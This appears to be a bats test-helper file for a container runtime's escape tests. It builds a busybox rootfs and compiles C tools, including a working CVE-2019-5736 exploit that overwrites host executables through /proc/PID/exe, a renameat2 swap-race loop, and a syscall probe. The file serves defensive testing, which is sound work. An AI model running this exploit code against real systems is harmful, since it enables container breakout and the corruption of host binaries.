@@ -1,0 +1,400 @@
+# escape_helpers.bash — shared by tests/integration/escape*.bats and
+# rootless.bats (load with `load escape_helpers`). Self-contained: it does not
+# use helpers.bash.
+#
+# Debian packages (also listed in tests/integration/packages.txt):
+#   busybox-static jq musl-tools libcap2-bin uidmap util-linux coreutils passwd
+#
+# Every test gets its own state root ($CR_ROOT) and bundle ($BUNDLE) under
+# $BATS_TEST_TMPDIR; containers are named by esc_id and deleted in teardown,
+# background processes we start are recorded with esc_bg and killed by pid.
+#
+# A .bats file uses:
+#   load escape_helpers
+#   setup_file() { esc_setup_file; }
+#   setup() { esc_setup; }
+#   teardown() { esc_teardown; }
+
+bats_require_minimum_version 1.5.0
+
+CR=${CR:-$(cd "$BATS_TEST_DIRNAME/../.." && pwd)/out/cr}
+ESC_ROOTFS=$BATS_FILE_TMPDIR/rootfs
+ESC_TOOLS=$BATS_FILE_TMPDIR/tools
+
+# ---------------------------------------------------------------- setup_file
+
+# esc_setup_file: busybox rootfs template and the static test tools, once per file.
+esc_setup_file() {
+    esc_make_rootfs && esc_build_tools
+}
+
+esc_make_rootfs() {
+    local bb a
+    bb=$(command -v busybox) || bb=/bin/busybox
+    [[ -x $bb ]] || { echo "busybox-static is not installed" >&2; return 1; }
+    rm -rf "$ESC_ROOTFS"
+    mkdir -p "$ESC_ROOTFS"/{bin,proc,sys,dev,tmp,etc,mnt,root}
+    for a in $("$bb" --list); do
+        [[ $a == busybox || $a == */* ]] && continue
+        ln -s busybox "$ESC_ROOTFS/bin/$a"
+    done
+    cp "$bb" "$ESC_ROOTFS/bin/busybox"
+    chmod 1777 "$ESC_ROOTFS/tmp"
+    printf 'root:x:0:0:root:/root:/bin/sh\nuser:x:1000:1000:user:/tmp:/bin/sh\n' >"$ESC_ROOTFS/etc/passwd"
+    printf 'root:x:0:\nuser:x:1000:\n' >"$ESC_ROOTFS/etc/group"
+}
+
+# esc_cc OUT SRC: a static binary (musl-gcc, else cc -static).
+esc_cc() {
+    local out=$1 src=$2
+    if command -v musl-gcc >/dev/null; then
+        musl-gcc -static -O1 -Wall -o "$out" "$src" && return 0
+    fi
+    cc -static -O1 -Wall -o "$out" "$src"
+}
+
+esc_build_tools() {
+    mkdir -p "$ESC_TOOLS"
+    esc_src_attack >"$ESC_TOOLS/attack.c"
+    esc_src_probe >"$ESC_TOOLS/probe.c"
+    esc_src_swap >"$ESC_TOOLS/swap.c"
+    esc_src_consrecv >"$ESC_TOOLS/consrecv.c"
+    local t
+    for t in attack probe swap consrecv; do
+        esc_cc "$ESC_TOOLS/$t" "$ESC_TOOLS/$t.c" || { echo "cannot compile $t.c" >&2; return 1; }
+    done
+}
+
+# ---------------------------------------------------------------- per test
+
+esc_setup() {
+    CR_ROOT=$BATS_TEST_TMPDIR/state
+    BUNDLE=$BATS_TEST_TMPDIR/bundle
+    : >"$BATS_TEST_TMPDIR/.ids"
+    : >"$BATS_TEST_TMPDIR/.bgpids"
+    : >"$BATS_TEST_TMPDIR/.scratch"
+    esc_make_bundle "$BUNDLE"
+}
+
+# esc_make_bundle DIR: rootfs copy + `cr spec`, no terminal, writable root,
+# args `sleep 1000`.
+esc_make_bundle() {
+    local dir=$1
+    mkdir -p "$dir"
+    cp -a "$ESC_ROOTFS" "$dir/rootfs"
+    "$CR" spec --bundle "$dir" 3>&- || { echo "cr spec --bundle $dir failed" >&2; return 1; }
+    cfg_in "$dir" '.process.terminal = false | .root.readonly = false | .process.args = ["sleep", "1000"]'
+}
+
+# esc_id [TAG]: a fresh container id, deleted in teardown.
+esc_id() {
+    local n id run=${BATS_RUN_TMPDIR##*/}
+    run=${run##*-}
+    n=$(wc -l <"$BATS_TEST_TMPDIR/.ids")
+    id="esc${run:0:6}-${BATS_SUITE_TEST_NUMBER:-$BATS_TEST_NUMBER}-$n${1:+-$1}"
+    echo "$id" >>"$BATS_TEST_TMPDIR/.ids"
+    printf '%s\n' "$id"
+}
+
+# esc_bg PID: a background process of ours, killed (by pid) in teardown.
+esc_bg() { echo "$1" >>"$BATS_TEST_TMPDIR/.bgpids"; }
+
+# esc_scratch [PREFIX]: a new directory under /tmp (not under the test dir,
+# so that it looks like an unrelated host path), removed in teardown.
+esc_scratch() {
+    local d
+    d=$(mktemp -d "/tmp/${1:-cr-esc}.XXXXXX") || return 1
+    echo "$d" >>"$BATS_TEST_TMPDIR/.scratch"
+    printf '%s\n' "$d"
+}
+
+cfg_in() {
+    local dir=$1 filter=$2
+    shift 2
+    jq "$@" "$filter" "$dir/config.json" >"$dir/config.json.new" &&
+        mv "$dir/config.json.new" "$dir/config.json"
+}
+cfg() { cfg_in "$BUNDLE" "$@"; }
+
+json_array() {
+    local a out='[]'
+    for a; do out=$(jq -c --arg a "$a" '. + [$a]' <<<"$out") || return 1; done
+    printf '%s\n' "$out"
+}
+set_args() { cfg '.process.args = $a' --argjson a "$(json_array "$@")"; }
+# set_sh SCRIPT: process.args = sh -c SCRIPT
+set_sh() { set_args sh -c "$1"; }
+
+# crr ARGS: cr with this test's state root (fd 3, bats' TAP stream, closed).
+crr() { "${ESC_CR:-$CR}" --root "$CR_ROOT" "$@" 3>&-; }
+# crc ARGS: crr for commands that leave a container running: its stdout and
+# stderr go to files, so that no pipe is held open by the container.
+crc() { "${ESC_CR:-$CR}" --root "$CR_ROOT" "$@" >>"$BATS_TEST_TMPDIR/ctr.out" 2>>"$BATS_TEST_TMPDIR/ctr.err" 3>&- </dev/null; }
+
+# esc_create ID [OPTS]: create in $BUNDLE that must succeed.
+esc_create() {
+    local id=$1
+    shift
+    crc create --bundle "$BUNDLE" "$@" "$id" || { cat "$BATS_TEST_TMPDIR/ctr.err" >&2; echo "cr create $id failed" >&2; return 1; }
+}
+# esc_try_create ID: create in $BUNDLE that may fail; sets $status and
+# $output (cr's stderr).
+esc_try_create() {
+    : >"$BATS_TEST_TMPDIR/ctr.err"
+    status=0
+    crc create --bundle "$BUNDLE" "$1" || status=$?
+    output=$(cat "$BATS_TEST_TMPDIR/ctr.err")
+}
+
+# esc_run [OPTION...]: `cr run` of $BUNDLE in the foreground, under a fresh id
+# (use with bats' run).
+esc_run() { crr run --bundle "$BUNDLE" "$@" "$(esc_id)"; }
+
+# esc_refused WORD...: after a failed run/create that is an acceptable
+# answer to the attack: the error must be about the attack (mention one of
+# WORDs), not some unrelated breakage that would make the test vacuous.
+esc_refused() {
+    local w
+    for w; do [[ $output == *"$w"* ]] && return 0; done
+    fail "refused for another reason than the attack (expected the error to mention one of: $*):" "$output"
+}
+
+# esc_start_sleeping ID: create + start ($BUNDLE's args should block).
+esc_start_sleeping() {
+    esc_create "$1" && crr start "$1" && esc_wait_status "$1" running
+}
+
+esc_wait_status() {
+    local id=$1 want=$2 i s=
+    for ((i = 0; i < 300; i++)); do
+        s=$(crr state "$id" 2>/dev/null | jq -r .status 2>/dev/null) || s=
+        [[ $s == "$want" ]] && return 0
+        sleep 0.1
+    done
+    echo "container $id: status '$s', expected '$want'" >&2
+    return 1
+}
+
+esc_wait_file() {
+    local i
+    for ((i = 0; i < 300; i++)); do
+        [[ -e $1 ]] && return 0
+        sleep 0.1
+    done
+    echo "timed out waiting for $1" >&2
+    return 1
+}
+
+# host_mounts_at PATH: host mountinfo lines whose mount point is PATH or below.
+host_mounts_at() { awk -v p="$1" '$5 == p || index($5, p "/") == 1' /proc/self/mountinfo; }
+
+fail() {
+    printf '%s\n' "$@" >&2
+    return 1
+}
+
+show_run() {
+    echo "status: $status"
+    echo "output: $output"
+    [[ -n ${stderr+x} ]] && echo "stderr: $stderr"
+    return 0
+}
+
+# ---------------------------------------------------------------- teardown
+
+esc_teardown() {
+    local id p m
+    while read -r p; do
+        [[ -n $p ]] && kill -9 "$p" 2>/dev/null
+    done <"$BATS_TEST_TMPDIR/.bgpids"
+    while read -r id; do
+        [[ -n $id ]] || continue
+        "${ESC_CR:-$CR}" --root "$CR_ROOT" delete -f "$id" >/dev/null 2>&1 3>&- ||
+            "$CR" --root "$CR_ROOT" delete -f "$id" >/dev/null 2>&1 3>&-
+    done <"$BATS_TEST_TMPDIR/.ids"
+    # mounts under the test directory and scratch dirs, deepest first
+    for m in $(awk '{print $5}' /proc/self/mountinfo | grep -F -- "$BATS_TEST_TMPDIR" | sort -r); do
+        umount -l "$m" 2>/dev/null
+    done
+    while read -r m; do
+        [[ $m == /tmp/* ]] || continue
+        for p in $(awk '{print $5}' /proc/self/mountinfo | grep -F -- "$m" | sort -r); do umount -l "$p" 2>/dev/null; done
+        rm -rf -- "$m"
+    done <"$BATS_TEST_TMPDIR/.scratch"
+    return 0
+}
+
+# ---------------------------------------------------------------- C sources
+
+# attack SECONDS: CVE-2019-5736. For SECONDS, open /proc/PID/exe of every
+# other process as O_PATH and hold it, and keep trying to reopen each held
+# executable for writing through /proc/self/fd (that works as soon as the
+# process has left it, unless it is sealed or read-only) and write into it.
+# Its own executable and /bin/busybox (the container needs it) are left
+# alone. Prints HOLDING (once per executable), OPENED-FOR-WRITE (once per
+# executable) and WROTE lines.
+esc_src_attack() {
+    cat <<'EOF'
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+#define MAXH 1024
+static struct { int fd, pid, opened, wrote; char link[256]; } held[MAXH];
+static int nheld;
+static struct stat skip[2];
+static int same(const struct stat *a, const struct stat *b) { return a->st_dev == b->st_dev && a->st_ino == b->st_ino; }
+static int known(const struct stat *st) {
+    int i;
+    struct stat s2;
+    if (same(st, &skip[0]) || same(st, &skip[1])) return 1;
+    for (i = 0; i < nheld; i++) if (fstat(held[i].fd, &s2) == 0 && same(st, &s2)) return 1;
+    return 0;
+}
+static void try_write(int i) {
+    static const char junk[] = "#!/bin/sh\necho CR_OVERWRITTEN_BY_CONTAINER\n";
+    char p[64];
+    int fd, k, flags[2] = { O_WRONLY | O_TRUNC, O_WRONLY | O_APPEND };
+    snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
+    for (k = 0; k < 2; k++) {
+        fd = open(p, flags[k] | O_CLOEXEC);
+        if (fd < 0) continue;
+        if (write(fd, junk, sizeof junk - 1) > 0) {
+            printf("WROTE pid=%d exe=%s\n", held[i].pid, held[i].link);
+            held[i].wrote++;
+        } else if (!held[i].opened++)
+            printf("OPENED-FOR-WRITE pid=%d exe=%s (write: %s)\n", held[i].pid, held[i].link, strerror(errno));
+        close(fd);
+    }
+}
+int main(int argc, char **argv) {
+    int secs = argc > 1 ? atoi(argv[1]) : 10, self = getpid(), i;
+    time_t end = time(NULL) + secs;
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    if (stat("/proc/self/exe", &skip[0]) < 0 || stat("/bin/busybox", &skip[1]) < 0) { perror("stat"); return 1; }
+    printf("ATTACKING for %ds\n", secs);
+    while (time(NULL) < end) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        if (!d) { perror("opendir /proc"); return 1; }
+        while ((e = readdir(d))) {
+            char p[64], link[256];
+            struct stat st;
+            int pid = atoi(e->d_name), fd;
+            ssize_t n;
+            if (pid <= 0 || pid == self) continue;
+            snprintf(p, sizeof p, "/proc/%d/exe", pid);
+            fd = open(p, O_PATH | O_CLOEXEC);
+            if (fd < 0) continue;
+            if (fstat(fd, &st) < 0 || known(&st) || nheld == MAXH) { close(fd); continue; }
+            n = readlink(p, link, sizeof link - 1);
+            link[n > 0 ? n : 0] = 0;
+            held[nheld].fd = fd; held[nheld].pid = pid;
+            snprintf(held[nheld].link, sizeof held[nheld].link, "%s", link);
+            printf("HOLDING pid=%d exe=%s\n", pid, link);
+            nheld++;
+        }
+        closedir(d);
+        for (i = 0; i < nheld; i++) try_write(i);
+    }
+    printf("DONE held=%d\n", nheld);
+    return 0;
+}
+EOF
+}
+
+# probe: calls keyctl, add_key, bpf and unshare(CLONE_NEWNET) and prints
+# NAME=ok or NAME=ERRNO for each.
+esc_src_probe() {
+    cat <<'EOF'
+#define _GNU_SOURCE
+#include <errno.h>
+#include <sched.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+static void show(const char *name, long r) {
+    int e = errno;
+    if (r >= 0) printf("%s=ok\n", name);
+    else printf("%s=%s\n", name, e == EPERM ? "EPERM" : e == ENOSYS ? "ENOSYS" : e == EACCES ? "EACCES" :
+                                  e == EINVAL ? "EINVAL" : e == ENOKEY ? "ENOKEY" : strerror(e));
+}
+int main(void) {
+    char attr[128];
+    memset(attr, 0, sizeof attr);
+    show("keyctl", syscall(SYS_keyctl, 0L /* KEYCTL_GET_KEYRING_ID */, -3L /* session */, 0L));
+    show("add_key", syscall(SYS_add_key, "user", "cr-probe", "x", 1L, -3L));
+    /* BPF_MAP_CREATE with an all-zero (invalid) attr: EINVAL when allowed */
+    show("bpf", syscall(SYS_bpf, 0L, attr, 64L));
+    show("unshare", syscall(SYS_unshare, (long)CLONE_NEWNET));
+    return 0;
+}
+EOF
+}
+
+# swap A B: exchange the names A and B atomically (renameat2
+# RENAME_EXCHANGE) in a tight loop until killed, whatever each call returns.
+esc_src_swap() {
+    cat <<'EOF'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    if (argc != 3) { fprintf(stderr, "usage: swap A B\n"); return 2; }
+    /* EBUSY (one of them is a mount point here) is not an error: go on */
+    for (;;) syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], 2 /* RENAME_EXCHANGE */);
+}
+EOF
+}
+
+# consrecv SOCKET OUT: listen on SOCKET (creates OUT.ready when listening),
+# take one pty master and copy what it reads to OUT until the pty closes.
+esc_src_consrecv() {
+    cat <<'EOF'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+#include <unistd.h>
+int main(int argc, char **argv) {
+    struct sockaddr_un sa;
+    char buf[4096], cbuf[CMSG_SPACE(sizeof(int))], ready[4096];
+    struct iovec iov = { buf, sizeof buf };
+    struct msghdr msg;
+    struct cmsghdr *cm;
+    int ls, c, master = -1, out;
+    ssize_t n;
+    if (argc != 3) { fprintf(stderr, "usage: consrecv SOCKET OUT\n"); return 2; }
+    ls = socket(AF_UNIX, SOCK_STREAM, 0);
+    memset(&sa, 0, sizeof sa);
+    sa.sun_family = AF_UNIX;
+    snprintf(sa.sun_path, sizeof sa.sun_path, "%s", argv[1]);
+    if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) < 0 || listen(ls, 1) < 0) { perror("socket"); return 1; }
+    snprintf(ready, sizeof ready, "%s.ready", argv[2]);
+    close(open(ready, O_CREAT | O_WRONLY, 0644));
+    if ((c = accept(ls, NULL, NULL)) < 0) { perror("accept"); return 1; }
+    memset(&msg, 0, sizeof msg);
+    msg.msg_iov = &iov; msg.msg_iovlen = 1;
+    msg.msg_control = cbuf; msg.msg_controllen = sizeof cbuf;
+    if (recvmsg(c, &msg, 0) < 0) { perror("recvmsg"); return 1; }
+    for (cm = CMSG_FIRSTHDR(&msg); cm; cm = CMSG_NXTHDR(&msg, cm))
+        if (cm->cmsg_level == SOL_SOCKET && cm->cmsg_type == SCM_RIGHTS) memcpy(&master, CMSG_DATA(cm), sizeof master);
+    if (master < 0) { fprintf(stderr, "consrecv: no fd received\n"); return 1; }
+    close(c); close(ls);
+    out = open(argv[2], O_CREAT | O_WRONLY | O_APPEND, 0644);
+    while ((n = read(master, buf, sizeof buf)) > 0) if (write(out, buf, (size_t)n) < 0) break;
+    return 0;
+}
+EOF
+}
